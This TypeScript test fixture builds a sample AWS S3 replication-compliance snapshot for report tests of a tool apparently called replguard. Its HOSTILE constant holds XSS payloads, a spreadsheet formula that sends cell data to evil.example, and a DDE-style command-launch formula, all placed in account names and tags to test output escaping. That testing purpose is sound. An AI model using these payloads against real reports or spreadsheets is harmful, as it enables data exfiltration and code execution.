/**
 * A realistic snapshot for the report tests: six accounts (scanned, failed AssumeRole, suspended,
 * excluded), five buckets with replication rules, all five result statuses, an expired suppression,
 * a policy unknown to the current policy set, and hostile strings wherever AWS lets users write text.
 * Account ids are the named ACCOUNTS: the failed one is ACCOUNTS.noRole (its AssumeRole is denied),
 * the vault holding the replicas ACCOUNTS.backup.
 * `test/report/fixtures/snapshot.json` is this snapshot as writeSnapshotJson writes it (a test keeps them equal);
 * regenerate it with writeSnapshotJson(buildSnapshot(), …) after changing the builder.
 */
import type {
  AccountRecord,
  BucketDocument,
  Drift,
  PolicyRef,
  PolicyResult,
  ReplicationRule,
  ResultStatus,
  Snapshot,
} from "../../src/model/index.js";
import { diffSnapshots } from "../../src/drift/index.js";
import type { PolicyInfo } from "../../src/report/index.js";
import { ACCOUNTS } from "./accounts.js";

export const HOSTILE = {
  scriptTag: "</script><script>alert(1)</script>",
  imgTag: "<img src=x onerror=alert(2)>",
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  atFormula: "@SUM(1+1)*cmd|' /C calc'!A0",
} as const;

const hash = (seed: string): string => seed.repeat(64).slice(0, 64);

export function account(id: string, name: string, overrides: Partial<AccountRecord> = {}): AccountRecord {
  return {
    id,
    name,
    email: `${name.replace(/[^a-z]/g, "") || "acct"}@example.com`,
    status: "ACTIVE",
    ouPath: "Root",
    tags: {},
    scope: "in-scope",
    scopeReason: null,
    scan: "scanned",
    access: "assumed-role",
    bucketCount: 0,
    errors: [],
    ...overrides,
  };
}

function rule(id: string, destBucket: string, destAccount: string, destRegion: string, sourceAccount: string, sourceRegion: string): ReplicationRule {
  return {
    id,
    priority: 1,
    enabled: true,
    scope: "all",
    prefix: null,
    tags: {},
    deleteMarkerReplication: false,
    existingObjectReplication: false,
    replicaModifications: false,
    sseKmsEncryptedObjects: false,
    destination: {
      bucket: destBucket,
      bucketArn: `arn:aws:s3:::${destBucket}`,
      account: destAccount,
      declaredAccount: destAccount === sourceAccount ? null : destAccount,
      declaredAccountStatus: destAccount === sourceAccount ? null : "matches",
      declaredAccountInOrganization: destAccount === sourceAccount ? null : true,
      region: destRegion,
      storageClass: "STANDARD_IA",
      ownerOverride: destAccount !== sourceAccount,
      replicaKmsKeyId: null,
      replicationTime: { enabled: false, minutes: null },
      metrics: { enabled: false, minutes: null },
      resolved: true,
      resolution: "resolved",
      inOrganization: true,
      crossAccount: destAccount !== sourceAccount,
      crossRegion: destRegion !== sourceRegion,
      versioning: "Enabled",
      objectLock: null,
      unreadable: [],
    },
  };
}

function bucket(name: string, owner: AccountRecord, region: string, extra: Partial<BucketDocument> = {}): BucketDocument {
  return {
    schemaVersion: "1.0.0",
    arn: `arn:aws:s3:::${name}`,
    name,
    region,
    tags: {},
    isReplicaDestination: false,
    replicatedFrom: [],
    account: { id: owner.id, name: owner.name, ouPath: owner.ouPath, tags: owner.tags },
    versioning: { status: "Enabled", mfaDelete: "Disabled" },
    objectLock: null,
    encryption: null,
    replication: { configured: false, role: null, rules: [] },
    collected: ["versioning", "replication", "tags"],
    errors: [],
    ...extra,
  };
}

export const POLICY_INFOS: PolicyInfo[] = [
  {
    id: "source-versioning-enabled",
    title: "Source bucket has versioning enabled",
    severity: "high",
    description: "S3 replication requires versioning on the source bucket.",
    rationale: "Without versioning, replication cannot be configured and overwritten objects are lost.",
    remediation: {
      guidance: "Enable versioning on the bucket.",
      fix: "enable-versioning",
      cli: "aws s3api put-bucket-versioning --bucket BUCKET --versioning-configuration Status=Enabled",
    },
    frameworks: { "NIST 800-53": ["CP-9"], "SOC 2": ["A1.2"] },
    links: ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/Versioning.html"],
  },
  {
    id: "replication-configured",
    title: "Bucket replicates its objects",
    severity: "high",
    description: "The bucket has at least one replication rule.",
    rationale: "A single copy in one account and region is lost with that account or region.",
    remediation: { guidance: "Add a replication rule to a bucket in another account.", fix: "configure-replication" },
    frameworks: { "NIST 800-53": ["CP-9", "CP-6"] },
  },
  {
    id: "destination-separate-account",
    title: "Replicas live in another account",
    severity: "critical",
    description: "Every rule replicates to a bucket owned by a different account.",
    rationale: "A replica in the same account falls with the same compromised credentials.",
    remediation: {
      guidance: "Point the rule at a bucket in a dedicated backup account.",
      fix: "manual",
      terraform: `resource "aws_s3_bucket_replication_configuration" "this" {\n  # destination { account = "${ACCOUNTS.backup}" }\n}`,
    },
  },
  {
    id: "destination-object-lock",
    title: "Replica buckets have Object Lock",
    severity: "medium",
    description: "Destination buckets enforce Object Lock retention.",
    rationale: "Object Lock keeps replicas immutable against deletion.",
    remediation: { guidance: "Create the destination with Object Lock enabled.", fix: "manual" },
  },
];

/** In the snapshot but not in POLICY_INFOS: the report must render it from its PolicyRef. */
export const RETIRED_POLICY: PolicyRef = {
  id: "legacy-retired-check",
  title: "A policy removed since the scan",
  severity: "low",
  hash: hash("e"),
  source: "/etc/replguard/policies/legacy-retired-check.json",
};

const POLICY_REFS: PolicyRef[] = [
  ...POLICY_INFOS.map((p, i) => ({ id: p.id, title: p.title, severity: p.severity, hash: hash("abcd"[i]!), source: "builtin" })),
  RETIRED_POLICY,
];

/** Status of each policy (in POLICY_REFS order) on each bucket. */
const STATUS_TABLE: Record<string, ResultStatus[]> = {
  "prod-data": ["pass", "pass", "pass", "fail", "pass"],
  "prod-logs": ["pass", "pass", "fail", "suppressed", "not_applicable"],
  "prod-logs-replica": ["pass", "not_applicable", "not_applicable", "not_applicable", "not_applicable"],
  "backup-vault-replica": ["pass", "not_applicable", "not_applicable", "not_applicable", "pass"],
  "mgmt-trail": ["fail", "error", "error", "error", "fail"],
};

export function buildSnapshot(): Snapshot {
  const management = account(ACCOUNTS.management, "management", { access: "caller", bucketCount: 1 });
  const prod = account(ACCOUNTS.prod, HOSTILE.imgTag, {
    ouPath: "Root/Workloads/Prod",
    tags: { team: HOSTILE.scriptTag, owner: "platform" },
    bucketCount: 3,
  });
  const failed = account(ACCOUNTS.noRole, HOSTILE.formula, {
    ouPath: "Root/Workloads/Dev",
    scan: "failed",
    access: null,
    errors: [{ operation: "AssumeRole", code: "AccessDenied", message: "not authorized to perform: sts:AssumeRole on OrganizationAccountAccessRole" }],
  });
  const suspended = account(ACCOUNTS.suspended, "old-project", { status: "SUSPENDED", ouPath: "Root/Suspended", scope: "suspended", scan: "not-scanned", access: null });
  const excluded = account(ACCOUNTS.dev, "sandbox-playground", {
    ouPath: "Root/Sandbox",
    scope: "excluded",
    scopeReason: "excluded by --exclude-accounts",
    scan: "not-scanned",
    access: null,
  });
  const vault = account(ACCOUNTS.backup, HOSTILE.atFormula, { ouPath: "Root/Security", bucketCount: 1 });

  const buckets: BucketDocument[] = [
    bucket("prod-data", prod, "us-east-1", {
      tags: { team: HOSTILE.scriptTag, "data-class": "confidential" },
      replication: {
        configured: true,
        role: `arn:aws:iam::${ACCOUNTS.prod}:role/replication`,
        rules: [rule("to-vault", "backup-vault-replica", vault.id, "us-west-2", prod.id, "us-east-1")],
      },
    }),
    bucket("prod-logs", prod, "us-east-1", {
      tags: { cost: HOSTILE.formula },
      replication: {
        configured: true,
        role: `arn:aws:iam::${ACCOUNTS.prod}:role/replication`,
        rules: [rule(HOSTILE.imgTag, "prod-logs-replica", prod.id, "us-east-1", prod.id, "us-east-1")],
      },
    }),
    bucket("prod-logs-replica", prod, "us-east-1", { isReplicaDestination: true, replicatedFrom: ["arn:aws:s3:::prod-logs"] }),
    bucket("backup-vault-replica", vault, "us-west-2", {
      isReplicaDestination: true,
      replicatedFrom: ["arn:aws:s3:::prod-data"],
      objectLock: { enabled: true, mode: "COMPLIANCE", days: 30, years: null },
      collected: ["versioning", "replication", "tags", "objectLock"],
    }),
    bucket("mgmt-trail", management, "eu-west-1", {
      versioning: { status: "Suspended", mfaDelete: "Disabled" },
      replication: null,
      errors: [{ operation: "GetBucketReplication", code: "AccessDenied", message: "Access Denied" }],
    }),
  ];

  const results: PolicyResult[] = buckets.flatMap((doc) =>
    POLICY_REFS.map((policy, index): PolicyResult => {
      const status = STATUS_TABLE[doc.name]![index]!;
      return resultFor(doc, policy, status);
    }),
  );

  return {
    kind: "replguard-snapshot",
    schemaVersion: "1.0.0",
    bucketDocumentSchemaVersion: "1.0.0",
    tool: { name: "replguard", version: "0.1.0" },
    scan: {
      startedAt: "2026-11-25T10:00:00.000Z",
      finishedAt: "2026-11-25T10:03:12.500Z",
      mode: "organization",
      endpoint: "http://127.0.0.1:4566",
      callerAccountId: management.id,
      organizationId: "o-abc123def4",
      managementAccountId: management.id,
      roleName: "OrganizationAccountAccessRole",
      regions: null,
      filters: { accounts: [], excludeAccounts: [excluded.id], ous: [] },
    },
    configHash: hash("f"),
    failOn: "high",
    policies: POLICY_REFS,
    coverage: {
      accounts: { total: 6, inScope: 4, scanned: 3, failed: 1, outOfScope: 2 },
      buckets: { inScope: 5, scanned: 4, partial: 1 },
      complete: false,
    },
    accounts: [management, prod, failed, suspended, excluded, vault],
    buckets,
    results,
    expiredSuppressions: [
      { policyId: "replication-configured", resource: "arn:aws:s3:::mgmt-*", reason: "temporary: migration " + HOSTILE.imgTag, expires: "2026-01-31", matched: 1 },
    ],
  };
}

/**
 * The fixture and a baseline one failure better (prod-data's failures passed the day before), so
 * the drift section, the trend, `baselineState` and the drift files are rendered.
 */
export function fixtureWithBaseline(): { current: Snapshot; baseline: Snapshot; drift: Drift } {
  const current = buildSnapshot();
  const baseline = buildSnapshot();
  baseline.scan = { ...baseline.scan, startedAt: "2026-11-24T10:00:00.000Z", finishedAt: "2026-11-24T10:03:00.000Z" };
  baseline.results = baseline.results.map((r) => (r.bucket === "prod-data" && r.status === "fail" ? { ...r, status: "pass" as const, evidence: [] } : r));
  return { current, baseline, drift: diffSnapshots(baseline, current) };
}

function resultFor(doc: BucketDocument, policy: PolicyRef, status: ResultStatus): PolicyResult {
  const base = { policyId: policy.id, bucketArn: doc.arn, bucket: doc.name, accountId: doc.account.id, region: doc.region, severity: policy.severity };
  const none = { evidence: [], suppression: null };
  switch (status) {
    case "pass":
      return { ...base, ...none, status, message: `${doc.name} satisfies ${policy.id}` };
    case "not_applicable":
      return { ...base, ...none, status, message: `${doc.name} is a replica destination; ${policy.id} does not apply` };
    case "error":
      return { ...base, ...none, status, message: `GetBucketReplication failed with AccessDenied, so ${policy.id} could not be checked` };
    case "fail":
    case "suppressed": {
      const { message, evidence } = finding(doc, policy.id);
      const suppression =
        status === "suppressed"
          ? { policyId: policy.id, resource: doc.arn, reason: "+logs are rebuilt from CloudTrail; accepted by risk board", expires: "2027-06-30" }
          : null;
      return { ...base, status, message, evidence, suppression };
    }
  }
}

/** The sentence and evidence each failing policy gives in the fixture. */
function finding(doc: BucketDocument, policyId: string): Pick<PolicyResult, "message" | "evidence"> {
  const rule = doc.replication?.rules[0];
  if (rule && policyId === "destination-object-lock") {
    return {
      message: `rule \`${rule.id}\` replicates to ${rule.destination.bucket}, which has no Object Lock`,
      evidence: [{ pointer: "/replication/rules/0/destination/objectLock", actual: null, expected: "must have Object Lock enabled" }],
    };
  }
  if (rule) {
    return {
      message: `rule \`${rule.id}\` replicates to ${rule.destination.bucket} in the same account ${doc.account.id}`,
      evidence: [{ pointer: "/replication/rules/0/destination/crossAccount", actual: false, expected: "must be true" }],
    };
  }
  return {
    message: `versioning on ${doc.name} is ${doc.versioning?.status ?? "unknown"}`,
    evidence: [{ pointer: "/versioning/status", actual: doc.versioning?.status ?? null, expected: 'must be "Enabled"' }],
  };
}
